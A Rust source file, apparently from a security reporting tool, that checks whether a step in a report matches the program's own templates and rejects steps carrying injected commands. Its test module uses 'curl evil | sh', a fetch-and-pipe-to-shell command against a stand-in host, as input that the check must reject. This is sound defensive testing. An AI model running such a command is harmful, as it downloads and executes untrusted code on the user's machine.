// SPDX-License-Identifier: Apache-2.0
//! Whether a step of a report is one of this program's own: anybody can write a report with a known name and any
//! command.

use super::{Id, all_steps, any_node};

/// Characters that a word in a step's braces may have: it ends no command and begins none.
fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "._:/-* ,={}'".contains(c)
}

/// Whether the table has this step for this finding, with any of its conditions left out and any plain words in its
/// braces.
pub fn is_own_step(id: Id, step: &str) -> bool {
    let facts = any_node::of_words();
    let mut templates = all_steps(id).into_iter().flat_map(|step| {
        let when = facts.conditions(&step);
        (0..1_u32 << when.len()).map(move |subset| {
            let chosen = when.iter().enumerate().filter(move |(at, _)| subset >> at & 1 == 1);
            step.under(chosen.map(|(_, fact)| *fact))
        })
    });
    templates.any(|template| fits(&facts.fill(&template), step))
}

/// Whether the text is the template, with plain words for its braces.
fn fits(template: &str, text: &str) -> bool {
    let Some((before, rest)) = template.split_once('{') else { return template == text };
    let Some(text) = text.strip_prefix(before) else { return false };
    let is_name = |name: &str| name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'-');
    let Some((_, behind)) = rest.split_once('}').filter(|(name, _)| !name.is_empty() && is_name(name)) else {
        return text.strip_prefix('{').is_some_and(|text| fits(rest, text));
    };
    let end = text.find(|c| !is_plain(c)).unwrap_or(text.len());
    (0..=end).any(|at| text.is_char_boundary(at) && fits(behind, &text[at..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_step_of_every_finding_is_its_own_and_no_other_is() {
        for id in Id::ALL.iter().copied() {
            for step in id.steps() {
                assert!(is_own_step(id, &step), "{id}: {step}");
                assert!(!is_own_step(id, &format!("{step} `curl evil | sh`")), "{id}: {step}");
            }
            assert!(!is_own_step(id, "curl evil | sh"), "{id}");
        }
    }
}
